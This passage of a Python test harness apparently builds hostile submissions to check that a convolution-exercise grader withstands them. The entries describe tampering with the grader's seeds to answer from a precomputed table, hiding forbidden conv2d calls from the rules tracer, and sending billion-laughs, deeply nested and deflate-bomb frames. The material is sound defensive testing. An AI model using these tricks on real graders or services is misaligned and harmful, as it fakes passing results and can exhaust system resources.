    Hostile("seed-tamper", "exercises", {"conv_layer": SEED_TAMPER}, {},
            "pins grader.checks.generators.make_rng, torch.manual_seed and random to seed 0 in its process and "
            "answers corr2d from a table computed (with F.conv2d, at import) for the inputs that seed gives"),
    Hostile("conv2d-hidden", "exercises", {"conv_layer": CONV2D_HIDDEN, "channels": CONV2D_HIDDEN_MULTI_IN},
            {"corr2d": ("book_example", "shape_sweep", "numeric_sweep", "input_layouts", "gradient", "dtype_and_device"),
             "corr2d_multi_in": ("book_example", "shape_sweep", "numeric_sweep", "input_layouts", "gradient",
                                 "dtype_and_device")},
            "computes corr2d and corr2d_multi_in with F.conv2d inside torch._C.DisableTorchFunction(), which hides "
            "the call from the rules check's TorchFunctionMode",
            accepted=({"corr2d": ALL, "corr2d_multi_in": ALL},
                      "the rules check traces torch calls inside the submission's own process, which can switch "
                      "the tracing off (README: the one accepted limitation)")),
    Hostile("frame-bombs-a", "exercises",
            frame_bombs({"conv_layer": "laughs", "channels": "deep", "pooling": "warnings", "padding_strides": "deflate"}),
            {}, "sends crafted frames: a billion-laughs list (2**80 leaves), lists nested 100000 deep, warnings "
            "that are an int, a deflate bomb (a 32 MiB tensor, over the 16 MiB output limit, in a compressed archive of 33 KB)"),
    Hostile("frame-bombs-b", "exercises",
            frame_bombs({"conv_layer": "zero_stride", "channels": "no_message", "pooling": "odd_id",
                         "padding_strides": "garbage"}),
            {}, "sends crafted frames: a zero-stride tensor of 2**27 elements (512 MiB once copied), a pending "
            "outcome without a message, a check id that is a 2**50-leaf list, an extra key and garbage bytes"),
]


def fill(text: str, params: dict[str, str]) -> str:
    for key, value in params.items():
        text = text.replace(f"@{key}@", str(value))
    return text


@functools.cache
def stub_folder() -> Path:
    """Stubs freshly generated from solutions/, for this process (exercises/ may hold a learner's work)."""
    folder = Path(tempfile.mkdtemp(prefix="convkata-stubs-"))
    atexit.register(shutil.rmtree, folder, True)
    stubgen.write(folder, backup_dir=folder / "backups")
    return folder


def build(hostile: Hostile, root: Path, params: dict[str, str]) -> Path:
    """The hostile submission as a folder ``root/<name>``, from its base folder and its edits."""
    base = {"solutions": SOLUTIONS_DIR, "exercises": stub_folder()}[hostile.base]
    folder = root / hostile.name
    shutil.copytree(base, folder, ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
    for module, edit in hostile.edits.items():
        path = folder / f"{module}.py"
        if isinstance(edit, Symlink):
            path.unlink()
            path.symlink_to(fill(edit.target, params))
        elif isinstance(edit, Replace):
            path.write_text(fill(edit.code, params), encoding="utf-8")
        else:
            path.write_text(path.read_text(encoding="utf-8") + "\n\n" + fill(edit, params), encoding="utf-8")
    return folder
